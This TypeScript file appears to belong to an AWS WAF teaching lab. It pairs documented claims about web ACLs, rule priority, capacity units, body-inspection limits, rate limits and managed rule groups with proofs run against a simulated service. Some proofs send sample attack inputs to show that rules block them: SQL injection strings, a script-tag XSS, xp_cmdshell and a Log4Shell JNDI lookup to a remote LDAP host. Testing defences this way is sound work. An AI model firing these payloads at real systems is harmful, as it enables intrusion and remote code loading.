import { blobOf, fails, ok, refused, returns, traces } from "@/lib/lessons/proof";
import type { Claim, ProofHand } from "@/lib/lessons/types";
import type { JsonObject } from "@/lib/engine/types";
import { wafApi, wafGuide, wafPricing } from "./sources";
import { bodyOver, changed, contains, managedGroup, rate, request, ruleOf, sqli, starts, visible, webAcl, xss } from "./waf-parts";
import { ends, guarded, send } from "./waf-proof";

const args = { AllQueryArguments: {} };
const path = { UriPath: {} };
const allowed = ends("ALLOW", "Default_Action");
const make = (say: string, Rules: JsonObject[], more: JsonObject = {}) => [say, { service: "wafv2", operation: "CreateWebACL", input: webAcl("proof", Rules, more) }] as const;

/** Sends the same request many times at one instant. */
const flood = (lab: ProofHand, say: string, ResourceArn: string, count: number, more: JsonObject, ...expectations: Parameters<ProofHand["call"]>[2][]) =>
  lab.call(say, { service: "traffic", operation: "Inspect", input: { ResourceArn, Requests: Array.from({ length: count }, () => request(more)) } }, ...expectations);

export const wafClaims: Claim[] = [
  {
    id: "WAF-01", verdict: "holds",
    sentence: "AWS WAF looks at HTTP requests: layer 7.",
    source: wafGuide("What are AWS WAF, AWS Shield Advanced, and AWS Firewall Manager?", "what-is-aws-waf"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, [ruleOf("sqli", 0, sqli(args))]);
      await send(lab, "A plain question", resource, { Uri: "/orders?customer=7" }, allowed);
      await send(lab, "From the same address, to the same port: an attack", resource, { Uri: "/orders?customer=7%27%20OR%20%277%27=%277" }, ends("BLOCK", "sqli"));
    },
  },
  {
    id: "WAF-02", verdict: "changed",
    sentence: "Web ACLs protect distributions, Application Load Balancers, REST APIs, AppSync, Cognito user pools, App Runner, Verified Access and Amplify.",
    source: wafGuide("Associating or disassociating protection with an AWS resource", "web-acl-associating-aws-resource"),
    proof: async (lab) => {
      const { Summary } = await lab.call("A web ACL", { service: "wafv2", operation: "CreateWebACL", input: webAcl("proof", []) });
      for (const ResourceType of ["APPLICATION_LOAD_BALANCER", "API_GATEWAY", "APPSYNC", "COGNITO_USER_POOL", "APP_RUNNER_SERVICE", "VERIFIED_ACCESS_INSTANCE"]) {
        const { Resource } = await lab.call(`Something of the kind ${ResourceType}`, { service: "traffic", operation: "AddResource", input: { ResourceType, Name: "proof" } });
        await lab.call("It takes the web ACL", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: Resource.Arn } }, ok());
        await lab.call("And has it", { service: "wafv2", operation: "GetWebACLForResource", input: { ResourceArn: Resource.Arn } }, ok({ "WebACL.Name": "proof" }));
      }
      await lab.call("A network load balancer does not", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: "arn:aws:elasticloadbalancing:us-east-1:111122223333:loadbalancer/net/proof/0123456789abcdef" } }, refused);
    },
  },
  {
    id: "N-WAF-1", verdict: "holds",
    sentence: "A resource has one web ACL at most; a web ACL can stand before many resources.",
    source: wafGuide("Associating or disassociating protection with an AWS resource", "web-acl-associating-aws-resource"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, []);
      const { Summary } = await lab.call(...make("Another web ACL", []));
      await lab.call("Put it before the same load balancer", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: resource } }, ok());
      await lab.call("Which one is there?", { service: "wafv2", operation: "GetWebACLForResource", input: { ResourceArn: resource } }, ok({ "WebACL.Name": "proof" }));
      const { Resource } = await lab.call("Another load balancer", { service: "traffic", operation: "AddResource", input: { ResourceType: "APPLICATION_LOAD_BALANCER", Name: "second" } });
      await lab.call("The same web ACL before it", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: Resource.Arn } }, ok());
      await lab.call("What does it stand before?", { service: "wafv2", operation: "ListResourcesForWebACL", input: { WebACLArn: Summary.ARN } }, returns("two resources", ({ ResourceArns }) => ResourceArns.length === 2));
    },
  },
  {
    id: "N-WAF-2", verdict: "holds",
    sentence: "A web ACL for CloudFront is made in us-east-1, with the scope CLOUDFRONT.",
    source: wafApi("CreateWebACL"),
    proof: async (lab) => {
      const create = { service: "wafv2", operation: "CreateWebACL", input: webAcl("proof", [], { Scope: "CLOUDFRONT" }) };
      await lab.call("In Ireland", { ...create, region: "eu-west-1" }, fails("WAFInvalidParameterException"));
      await lab.call("In N. Virginia", create, returns("its ARN says global", ({ Summary }) => Summary.ARN.includes(":global/webacl/")));
    },
  },
  {
    id: "WAF-03", verdict: "holds",
    sentence: "Rules are asked by ascending priority; Allow and Block end it, Count goes on, and the default action has the last word.",
    source: wafGuide("Setting rule priority; Using rule actions in AWS WAF", "web-acl-processing-order"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, [
        ruleOf("count-all", 5, starts("/", path), "Count"),
        ruleOf("block-admin", 20, starts("/admin", path)),
        ruleOf("allow-health", 10, starts("/admin/health", path), "Allow"),
      ]);
      await send(lab, "A path that 10 allows and 20 would block", resource, { Uri: "/admin/health" }, ends("ALLOW", "allow-health"));
      await send(lab, "One that only 20 knows", resource, { Uri: "/admin/users" }, ends("BLOCK", "block-admin"), traces("rule 5 has counted it before", ({ steps }) => steps.some((step) => step.kind === "inspection" && step.result.nonTerminatingMatchingRules.some(({ ruleId }) => ruleId === "count-all"))));
      await send(lab, "One that only Count knows", resource, { Uri: "/" }, allowed);
    },
  },
  {
    id: "WAF-04", verdict: "holds",
    sentence: "A rule can look at addresses, headers, cookies, the path, the query, the method and the body.",
    source: wafApi("FieldToMatch"),
    proof: async (lab) => {
      const word = (name: string, Priority: number, field: JsonObject) => ruleOf(name, Priority, contains("needle", field));
      const { resource } = await guarded(lab, [word("header", 0, { SingleHeader: { Name: "x-test" } }), word("path", 1, path), word("query", 2, { QueryString: {} }), word("body", 3, { Body: { OversizeHandling: "CONTINUE" } }), word("cookie", 4, { Cookies: { MatchPattern: { All: {} }, MatchScope: "VALUE", OversizeHandling: "CONTINUE" } })]);
      await send(lab, "In a header", resource, { Headers: [{ Name: "X-Test", Value: "a needle" }] }, ends("BLOCK", "header"));
      await send(lab, "In the path", resource, { Uri: "/needle" }, ends("BLOCK", "path"));
      await send(lab, "In the query", resource, { Uri: "/?a=needle" }, ends("BLOCK", "query"));
      await send(lab, "In the body", resource, { Method: "POST", Body: btoa("a needle") }, ends("BLOCK", "body"));
      await send(lab, "In a cookie", resource, { Headers: [{ Name: "Cookie", Value: "a=needle" }] }, ends("BLOCK", "cookie"));
      await send(lab, "Nowhere", resource, {}, allowed);
    },
  },
  {
    id: "WAF-05", verdict: "holds",
    sentence: "An IP set holds up to 10,000 ranges; a rule can refuse them at a load balancer.",
    source: wafGuide("AWS WAF quotas", "limits"),
    proof: async (lab) => {
      const { Summary } = await lab.call("An IP set", { service: "wafv2", operation: "CreateIPSet", input: { Name: "bad", Scope: "REGIONAL", IPAddressVersion: "IPV4", Addresses: ["203.0.113.0/28"] } });
      const { resource } = await guarded(lab, [ruleOf("bad", 0, { IPSetReferenceStatement: { ARN: Summary.ARN } })]);
      await send(lab, "From one of the addresses", resource, { ClientIp: "203.0.113.9" }, ends("BLOCK", "bad"));
      await send(lab, "From the next range", resource, { ClientIp: "203.0.113.16" }, allowed);
      const many = (count: number) => Array.from({ length: count }, (_, at) => `10.${at >> 16}.${(at >> 8) & 255}.${at & 255}/32`);
      await lab.call("10,000 addresses", { service: "wafv2", operation: "CreateIPSet", input: { Name: "many", Scope: "REGIONAL", IPAddressVersion: "IPV4", Addresses: many(10_000) } }, ok());
      await lab.call("10,001 addresses", { service: "wafv2", operation: "CreateIPSet", input: { Name: "more", Scope: "REGIONAL", IPAddressVersion: "IPV4", Addresses: many(10_001) } }, refused);
    },
  },
  {
    id: "N-WAF-3", verdict: "holds",
    sentence: "Text transformations change what a statement looks at, in their order; a text that is encoded twice must be decoded twice.",
    source: wafApi("TextTransformation"),
    proof: async (lab) => {
      const admin = (name: string, Priority: number, ...types: string[]) => ruleOf(name, Priority, starts("/admin", path, ...types), "Count");
      const { resource } = await guarded(lab, [admin("none", 0), admin("decoded", 1, "URL_DECODE", "LOWERCASE"), admin("twice", 2, "URL_DECODE", "URL_DECODE", "LOWERCASE")]);
      const counted = (...names: string[]) => traces(`counted by ${names.join(", ") || "no rule"}`, ({ steps }) => {
        const found = steps.flatMap((step) => (step.kind === "inspection" ? step.result.nonTerminatingMatchingRules.map(({ ruleId }) => ruleId) : []));
        return steps.some(({ kind }) => kind === "inspection") && JSON.stringify(found) === JSON.stringify(names);
      });
      await send(lab, "/admin", resource, { Uri: "/admin" }, counted("none", "decoded", "twice"));
      await send(lab, "/%41dmin", resource, { Uri: "/%41dmin" }, counted("decoded", "twice"));
      await send(lab, "/%2541dmin", resource, { Uri: "/%2541dmin" }, counted("twice"));
    },
  },
  {
    id: "N-WAF-4", verdict: "holds",
    sentence: "Statements cost capacity units (WCU), and each transformation 10 more; a web ACL has 5,000, of which 1,500 are in its price.",
    source: wafGuide("Web ACL capacity units (WCUs) in AWS WAF; AWS WAF quotas", "aws-waf-capacity-units"),
    proof: async (lab) => {
      const weigh = (say: string, statement: JsonObject, Capacity: number) => lab.call(say, { service: "wafv2", operation: "CheckCapacity", input: { Scope: "REGIONAL", Rules: [ruleOf("r", 0, statement)] } }, ok({ Capacity }));
      await weigh("A country", { GeoMatchStatement: { CountryCodes: ["DE"] } }, 1);
      await weigh("SQL injection, LOW, in all arguments, decoded", sqli(args), 40);
      await weigh("XSS in the body, decoded", xss({ Body: { OversizeHandling: "CONTINUE" } }), 50);
      await weigh("AWS's core rule set", managedGroup("AWSManagedRulesCommonRuleSet"), 700);
      const groups = (count: number) => Array.from({ length: count }, (_, at) => ruleOf(`core-${at}`, at, { ...managedGroup("AWSManagedRulesCommonRuleSet") }));
      await lab.call(...make("Eight times the core rule set", groups(8)), refused);
    },
  },
  {
    id: "WAF-06", verdict: "holds",
    sentence: "There are statements for SQL injection, at the sensitivity LOW or HIGH, and for cross-site scripting.",
    source: wafApi("SqliMatchStatement"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, [ruleOf("sqli", 0, sqli(args)), ruleOf("xss", 1, xss(args))]);
      await send(lab, "SQL", resource, { Uri: "/?id=1%20UNION%20SELECT%20login,pin%20FROM%20staff" }, ends("BLOCK", "sqli"));
      await send(lab, "A script", resource, { Uri: "/?q=%3Cscript%3Ealert(1)%3C/script%3E" }, ends("BLOCK", "xss"));
      await send(lab, "Words that only look like it", resource, { Uri: "/?q=hotel%20near%20union%20square" }, allowed);
      await send(lab, "A procedure of SQL Server’s, at LOW", resource, { Uri: "/?sort=xp_cmdshell" }, allowed);
      const { Summary } = await lab.call(...make("A web ACL with HIGH", [ruleOf("high", 0, sqli(args, "HIGH"))]));
      await lab.call("In place of the first", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: resource } });
      await send(lab, "The procedure, at HIGH", resource, { Uri: "/?sort=xp_cmdshell" }, ends("BLOCK", "high"));
    },
  },
  {
    id: "WAF-07", verdict: "imprecise",
    sentence: "A load balancer shows WAF the first 8,192 bytes of a body; what is longer is decided by the oversize handling.",
    source: wafGuide("Oversize web request components; Considerations for managing body inspection", "web-acl-setting-body-inspection-limit"),
    proof: async (lab) => {
      const five = 5 * 1024 * 1024;
      const { resource } = await guarded(lab, [ruleOf("over-5-mb", 0, bodyOver(five, "MATCH"))]);
      const body = (count: number) => ({ Method: "POST", Body: blobOf(count) });
      await send(lab, "8,192 bytes", resource, body(8_192), allowed);
      await send(lab, "8,193 bytes, far below 5 MB", resource, body(8_193), ends("BLOCK", "over-5-mb"));
      const { Summary } = await lab.call(...make("A web ACL that says: over 9,000 bytes, CONTINUE", [ruleOf("over-9000", 0, bodyOver(9_000, "CONTINUE"))]));
      await lab.call("In place of the first", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: resource } });
      await send(lab, "A million bytes", resource, body(1_000_000), allowed, traces("8,192 of them were seen", ({ steps }) => steps.some((step) => step.kind === "inspection" && step.result.requestBodySizeInspectedByWAF === 8_192)));
    },
  },
  {
    id: "N-WAF-5", verdict: "holds",
    sentence: "Before CloudFront and most other resources WAF sees 16 KB of a body by default, and up to 64 KB where the web ACL says so.",
    source: wafApi("AssociationConfig"),
    proof: async (lab) => {
      const seen = (bytes: number) => traces(`${bytes.toLocaleString("en")} bytes were seen`, ({ steps }) => steps.some((step) => step.kind === "inspection" && step.result.requestBodySizeInspectedByWAF === bytes));
      const { Resource } = await lab.call("An API stage", { service: "traffic", operation: "AddResource", input: { ResourceType: "API_GATEWAY", Name: "api" } });
      const before = async (Name: string, more: JsonObject) => {
        const { Summary } = await lab.call("A web ACL", { service: "wafv2", operation: "CreateWebACL", input: webAcl(Name, [ruleOf("words", 0, contains("needle", { Body: { OversizeHandling: "CONTINUE" } }))], more) });
        await lab.call("Before the API", { service: "wafv2", operation: "AssociateWebACL", input: { WebACLArn: Summary.ARN, ResourceArn: Resource.Arn } });
      };
      await before("default", {});
      await send(lab, "100,000 bytes", Resource.Arn, { Method: "POST", Body: blobOf(100_000) }, seen(16_384));
      await before("largest", { AssociationConfig: { RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: "KB_64" } } } });
      await send(lab, "100,000 bytes", Resource.Arn, { Method: "POST", Body: blobOf(100_000) }, seen(65_536));
    },
  },
  {
    id: "WAF-08", verdict: "holds",
    sentence: "A geo match statement names up to 50 countries, and labels each request with its own.",
    source: wafApi("GeoMatchStatement"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, [ruleOf("not-from-there", 0, { GeoMatchStatement: { CountryCodes: ["BR", "JP"] } })]);
      await send(lab, "From Japan", resource, { ClientIp: "192.0.2.100", Country: "JP" }, ends("BLOCK", "not-from-there"));
      await send(lab, "From Britain", resource, {}, allowed, returns("it is labelled with the country", ({ Outcomes }) => Outcomes[0].Labels.includes("awswaf:clientip:geo:country:GB")));
      await lab.call(...make("51 countries", [ruleOf("many", 0, { GeoMatchStatement: { CountryCodes: "AD AE AF AG AI AL AM AO AQ AR AS AT AU AW AX AZ BA BB BD BE BF BG BH BI BJ BL BM BN BO BQ BR BS BT BV BW BY BZ CA CC CD CF CG CH CI CK CL CM CN CO CR CU".split(" ") } })]), refused);
    },
  },
  {
    id: "WAF-09", verdict: "imprecise",
    sentence: "A rate-based rule has a limit of at least 10 in 60, 120, 300 or 600 seconds, 300 by default: five a second is 300 in 60.",
    source: wafApi("RateBasedStatement"),
    proof: async (lab) => {
      await lab.call(...make("Five in a second", [ruleOf("r", 0, rate(5, 1))]), refused);
      await lab.call(...make("Ten in a second", [ruleOf("r", 0, rate(10, 1))]), fails("WAFInvalidParameterException"));
      await lab.call(...make("Nine in a minute", [ruleOf("r", 0, rate(9, 60))]), refused);
      for (const window of [60, 120, 300, 600]) await lab.call("Weigh a limit of ten in a window", { service: "wafv2", operation: "CheckCapacity", input: { Scope: "REGIONAL", Rules: [ruleOf("r", 0, rate(10, window))] } }, ok({ Capacity: 2 }));
      const { resource } = await guarded(lab, [ruleOf("five-a-second", 0, rate(300, 60))]);
      for (const second of [0, 10, 20, 30, 40, 50]) {
        await flood(lab, `Four a second, after ${second} seconds`, resource, 40, {}, allowed);
        await lab.wait("Ten seconds", 10_000);
      }
      for (const second of [0, 10, 20]) {
        await flood(lab, `Twenty a second, after ${second} seconds`, resource, 200, { ClientIp: "198.51.100.140" }, ...(second === 0 ? [allowed] : []));
        await lab.wait("Ten seconds", 10_000);
      }
      await send(lab, "One more from there", resource, { ClientIp: "198.51.100.140" }, ends("BLOCK", "five-a-second"));
      await send(lab, "One more from the first", resource, {}, allowed);
    },
  },
  {
    id: "WAF-10", verdict: "changed",
    sentence: "It counts by address, forwarded address, up to five keys of your own, or everything together; and only what a scope-down statement lets in.",
    source: wafApi("RateBasedStatementCustomKey"),
    proof: async (lab) => {
      const key = { AggregateKeyType: "CUSTOM_KEYS", CustomKeys: [{ Header: { Name: "x-api-key", TextTransformations: changed() } }], ScopeDownStatement: starts("/api", path) };
      const { resource } = await guarded(lab, [ruleOf("per-key", 0, rate(10, 60, key))]);
      const of = (value: string, Uri = "/api/orders") => ({ Uri, Headers: [{ Name: "Host", Value: "shop.example" }, { Name: "X-Api-Key", Value: value }] });
      await flood(lab, "Thirty with one key", resource, 30, of("one"), allowed);
      await flood(lab, "Thirty with another, elsewhere on the site", resource, 30, of("two", "/"), allowed);
      await lab.wait("Ten seconds", 10_000);
      await send(lab, "The first key", resource, of("one"), ends("BLOCK", "per-key"));
      await send(lab, "The second, from the same address", resource, of("two"), allowed);
      await lab.call(...make("Six keys", [ruleOf("r", 0, rate(10, 60, { AggregateKeyType: "CUSTOM_KEYS", CustomKeys: ["a", "b", "c", "d", "e", "f"].map((Name) => ({ Header: { Name, TextTransformations: changed() } })) }))]), refused);
    },
  },
  { id: "WAF-11", verdict: "imprecise", sentence: "WAF helps against floods of requests (layer 7); floods of packets (layers 3 and 4) are Shield's. There is a managed group against DDoS, too.", source: wafGuide("AWS WAF Distributed Denial of Service (DDoS) prevention rule group", "aws-managed-rule-groups-anti-ddos") },
  {
    id: "WAF-12", verdict: "imprecise",
    sentence: "A web ACL costs $5 a month, each rule or rule group in it $1, and a million requests $0.60.",
    source: wafPricing,
    proof: async (lab) => {
      const { resource } = await guarded(lab, []);
      const paid = (quantity: number) => traces(`${quantity} ${quantity === 1 ? "request is" : "requests are"} charged`, ({ cost }) => cost.some(({ item, quantity: n }) => item === "wafv2:request" && n === quantity));
      await send(lab, "A request is paid for", resource, {}, paid(1));
      await flood(lab, "And each of a hundred", resource, 100, {}, paid(100));
    },
  },
  {
    id: "WAF-13", verdict: "holds",
    sentence: "The web ACL and each of its rules has a metric of its own: VisibilityConfig must be there.",
    source: wafApi("VisibilityConfig"),
    proof: async (lab) => {
      const { VisibilityConfig: _left, ...without } = ruleOf("r", 0, starts("/", path)) as JsonObject;
      await lab.call(...make("A rule without it", [without]), refused);
      const { VisibilityConfig: _out, ...bare } = webAcl("proof", []);
      await lab.call("A web ACL without it", { service: "wafv2", operation: "CreateWebACL", input: bare }, refused);
      await lab.call(...make("With it", [ruleOf("r", 0, starts("/", path))]), ok());
    },
  },
  {
    id: "WAF-14", verdict: "changed",
    sentence: "A web ACL is regional or for CloudFront: its scope, which does not change.",
    source: wafApi("CreateWebACL"),
    proof: async (lab) => {
      const { Summary } = await lab.call(...make("A regional web ACL", []));
      const { Resource } = await lab.call("A distribution", { service: "traffic", operation: "AddResource", input: { ResourceType: "CLOUDFRONT", Name: "site" } });
      await lab.call("Put one before the other", { service: "traffic", operation: "UpdateDistribution", input: { ResourceArn: Resource.Arn, WebACLId: Summary.ARN } }, fails("InvalidWebACLId"));
      const world = await lab.call(...make("One for CloudFront", [], { Scope: "CLOUDFRONT" }));
      await lab.call("That one fits", { service: "traffic", operation: "UpdateDistribution", input: { ResourceArn: Resource.Arn, WebACLId: world.Summary.ARN } }, ok());
    },
  },
  {
    id: "WAF-15", verdict: "holds",
    sentence: "AWS's own groups: admin protection (100 WCU), Amazon IP reputation list (25), core rule set (700), known bad inputs (200), and more.",
    source: wafGuide("AWS Managed Rules rule groups list; Baseline rule groups", "aws-managed-rule-groups-list"),
    proof: async (lab) => {
      const names = ["AWSManagedRulesAdminProtectionRuleSet", "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"];
      for (const [at, Capacity] of [100, 25, 700, 200].entries()) await lab.call(`What does ${names[at]} weigh?`, { service: "wafv2", operation: "DescribeManagedRuleGroup", input: { VendorName: "AWS", Name: names[at], Scope: "REGIONAL" } }, ok({ Capacity }));
      const { resource } = await guarded(lab, names.map((name, at) => ruleOf(["admin", "reputation", "core", "bad-inputs"][at], at, managedGroup(name))));
      await send(lab, "A page for administrators", resource, { Uri: "/sqlmanager/" }, ends("BLOCK", "admin", "AdminProtection_URIPATH"));
      await send(lab, "No User-Agent", resource, { Headers: [{ Name: "Host", Value: "shop.example" }] }, ends("BLOCK", "core", "NoUserAgent_HEADER"));
      await send(lab, "Log4Shell", resource, { Uri: "/?q=$%7Bjndi:ldap://198.51.100.7/a%7D" }, ends("BLOCK", "bad-inputs", "Log4JRCE_QUERYSTRING"));
      await send(lab, "A customer", resource, { Uri: "/products?id=41" }, allowed);
    },
  },
  {
    id: "WAF-16", verdict: "holds",
    sentence: "What no rule ends meets the default action, Allow or Block; priorities are different numbers.",
    source: wafApi("WebACL"),
    proof: async (lab) => {
      const { resource } = await guarded(lab, [ruleOf("public", 0, starts("/public", path), "Allow")], { DefaultAction: { Block: {} } });
      await send(lab, "What a rule lets in", resource, { Uri: "/public/a" }, ends("ALLOW", "public"));
      await send(lab, "What none does", resource, { Uri: "/other" }, ends("BLOCK", "Default_Action"));
      await lab.call(...make("Two rules with the priority 1", [ruleOf("a", 1, starts("/a", path)), ruleOf("b", 1, starts("/b", path))]), refused);
      await lab.call(...make("Count as default action", [], { DefaultAction: { Count: {} } }), refused);
    },
  },
  {
    id: "WAF-17", verdict: "holds",
    sentence: "IP sets, regex pattern sets and rule groups are things of their own, which many web ACLs can use; the Marketplace sells rule groups.",
    source: wafGuide("Working with rule groups; IP sets and regex pattern sets; AWS Marketplace rule groups", "waf-rule-groups"),
    proof: async (lab) => {
      const patterns = await lab.call("A regex pattern set", { service: "wafv2", operation: "CreateRegexPatternSet", input: { Name: "backups", Scope: "REGIONAL", RegularExpressionList: [{ RegexString: "\\.(bak|old|sql)$" }] } });
      const addresses = await lab.call("An IP set", { service: "wafv2", operation: "CreateIPSet", input: { Name: "bad", Scope: "REGIONAL", IPAddressVersion: "IPV4", Addresses: ["203.0.113.9/32"] } });
      const group = await lab.call("A rule group of both", {
        service: "wafv2", operation: "CreateRuleGroup",
        input: { Name: "house-rules", Scope: "REGIONAL", Capacity: 50, VisibilityConfig: visible("house-rules"), Rules: [ruleOf("addresses", 0, { IPSetReferenceStatement: { ARN: addresses.Summary.ARN } }), ruleOf("backups", 1, { RegexPatternSetReferenceStatement: { ARN: patterns.Summary.ARN, FieldToMatch: path, TextTransformations: changed() } })] },
      });
      const { resource } = await guarded(lab, [ruleOf("house", 0, { RuleGroupReferenceStatement: { ARN: group.Summary.ARN } })]);
      await send(lab, "From the address", resource, { ClientIp: "203.0.113.9" }, ends("BLOCK", "house", "addresses"));
      await send(lab, "For a backup", resource, { Uri: "/shop.sql" }, ends("BLOCK", "house", "backups"));
      await send(lab, "For a page", resource, { Uri: "/shop" }, allowed);
      await lab.call("A set that a group uses cannot go", { service: "wafv2", operation: "DeleteIPSet", input: { Name: "bad", Scope: "REGIONAL", Id: addresses.Summary.Id, LockToken: addresses.Summary.LockToken } }, fails("WAFAssociatedItemException"));
    },
  },
];
